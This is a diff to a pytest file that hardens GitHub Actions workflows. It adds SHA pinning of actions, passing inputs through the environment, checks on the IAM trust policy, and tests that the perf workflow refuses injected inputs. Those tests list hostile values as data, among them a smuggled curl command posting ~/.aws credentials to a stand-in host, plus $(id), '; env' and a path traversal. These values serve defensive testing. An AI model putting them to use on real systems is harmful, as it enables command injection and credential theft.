@@ -12,7 +12,11 @@ from __future__ import annotations
 
 import fnmatch
 import json
+import os
 import re
+import subprocess
+import sys
+import tempfile
 from functools import cache
 from pathlib import Path
 from typing import Any
@@ -65,7 +69,12 @@ def test_workflow_parses_and_pins_actions(name: str) -> None:
         for step in steps(job):
             assert "run" in step or "uses" in step, (job_id, step)
             if "uses" in step:
-                assert re.match(r"^[\w.-]+/[\w./-]+@v\d+$", step["uses"]), step["uses"]
+                # pinned by commit SHA: a moved tag cannot change what runs with the role's credentials
+                assert re.match(r"^[\w.-]+/[\w./-]+@[0-9a-f]{40}$", step["uses"]), step["uses"]
+    # and each pin names the release it was taken from, so an update is a readable diff
+    for line in (WORKFLOWS / name).read_text().splitlines():
+        if "uses:" in line:
+            assert re.search(r"@[0-9a-f]{40}\s+# v\d+\.\d+\.\d+$", line), line
 
 
 def _provisioning_jobs() -> list[tuple[str, str, dict[str, Any]]]:
@@ -129,7 +138,8 @@ def test_perf_matrix_inputs_schedule_allure_and_summary() -> None:
     assert perf["strategy"]["matrix"] == "${{ fromJSON(needs.types.outputs.matrix) }}"
     assert perf["strategy"]["fail-fast"] is False
     suites = next(s for s in steps(perf) if provisions(s))
-    assert "${{ matrix.instance_type }}" in suites["run"] and "--alluredir allure-results" in suites["run"]
+    assert perf["env"]["INSTANCE_TYPE"] == "${{ matrix.instance_type }}"
+    assert '--instance-type "$INSTANCE_TYPE"' in suites["run"] and "--alluredir allure-results" in suites["run"]
     plan = [s for s in steps(perf) if "perfci plan" in str(s.get("run", ""))]
     assert plan and steps(perf).index(plan[0]) < steps(perf).index(suites), "plan (quota check) before spending"
     assert any(uses(s, "actions/upload-artifact") and s["with"]["path"] == "allure-results" and always(s)
@@ -141,21 +151,60 @@ def test_perf_matrix_inputs_schedule_allure_and_summary() -> None:
     assert any("perfci matrix" in str(s.get("run", "")) and "--step-summary" in s["run"] for s in steps(report))
 
 
-def test_perf_types_job_builds_the_matrix_per_architecture() -> None:
-    """Run the types job's own Python the way Actions would, with the defaults."""
-    import os
-    import subprocess
-    import sys
-    import tempfile
-
+def _run_types_job(**env: str) -> tuple[subprocess.CompletedProcess[str], str]:
+    """Run the types job's own Python the way Actions would: inputs in the environment."""
     step = load("perf.yml")["jobs"]["types"]["steps"][0]
     with tempfile.NamedTemporaryFile("r", suffix=".out") as out:
-        env = {**os.environ, "X86_64": "m7i.metal-24xl,m7i.2xlarge", "ARM64": "c7g.metal,", "GITHUB_OUTPUT": out.name}
-        subprocess.run([sys.executable, "-c", step["run"]], env=env, check=True, timeout=30)
-        key, _, value = out.read().strip().partition("=")
+        full = {**os.environ, "X86_64": "m7i.large", "ARM64": "", "SUITES": "suites/pmc", "PERFCI_TTL": "3h",
+                "GITHUB_OUTPUT": out.name, **env}
+        proc = subprocess.run([sys.executable, "-c", step["run"]], env=full, capture_output=True, text=True,
+                              timeout=30)
+        return proc, out.read()
+
+
+def test_perf_types_job_builds_the_matrix_per_architecture() -> None:
+    proc, output = _run_types_job(X86_64="m7i.metal-24xl,m7i.2xlarge", ARM64="c7g.metal,",
+                                  SUITES="suites/pmc suites/resctrl/test_resctrl.py::test_x", PERFCI_TTL="1h30m")
+    assert proc.returncode == 0, proc.stderr
+    key, _, value = output.strip().partition("=")
     assert key == "matrix" and json.loads(value)["include"] == [
         {"arch": "x86_64", "instance_type": "m7i.metal-24xl"}, {"arch": "x86_64", "instance_type": "m7i.2xlarge"},
         {"arch": "arm64", "instance_type": "c7g.metal"}]
+
+
+@pytest.mark.parametrize(("name", "value"), [
+    ("X86_64", 'm7i.large"; curl -d @$HOME/.aws http://x #'),
+    ("ARM64", "c7g.large,$(id)"),
+    ("SUITES", "suites/pmc; env"),
+    ("SUITES", "suites/../../etc"),
+    ("SUITES", "-p no:perfci"),
+    ("PERFCI_TTL", "3h --perfci-keep"),
+])
+def test_perf_types_job_refuses_injected_inputs(name: str, value: str) -> None:
+    """The inputs reach scripts through env only, and the types job refuses them before any credentials."""
+    proc, output = _run_types_job(**{name: value})
+    assert proc.returncode != 0 and output == ""
+    (line,) = proc.stderr.strip().splitlines()
+    assert line.startswith("perf.yml input ") and "is not allowed; expected" in line, line
+
+
+@pytest.mark.parametrize("name", ["ci.yml", "perf.yml", "reaper.yml"])
+def test_no_expression_is_expanded_inside_a_script(name: str) -> None:
+    """`${{ }}` in `run:` is text substitution into a shell script: an input could become a command."""
+    for job_id, job in load(name)["jobs"].items():
+        for step in steps(job):
+            assert "${{" not in str(step.get("run", "")), (job_id, step.get("name"))
+
+
+def test_role_is_trusted_for_the_protected_environment_only() -> None:
+    trust = json.loads((ROOT / "iam" / "perfci-trust-policy.json").read_text())
+    (statement,) = trust["Statement"]
+    sub = statement["Condition"]["StringEquals"]["token.actions.githubusercontent.com:sub"]
+    assert sub.endswith(":environment:aws-perf") and "*" not in sub
+    for name in ("perf.yml", "reaper.yml"):
+        for job_id, job in load(name)["jobs"].items():
+            if any(uses(s, "aws-actions/configure-aws-credentials") for s in steps(job)):
+                assert job.get("environment") == "aws-perf", f"{name}:{job_id} assumes the role outside aws-perf"
 
 
 def test_reaper_is_scheduled_and_reaps_expired() -> None:
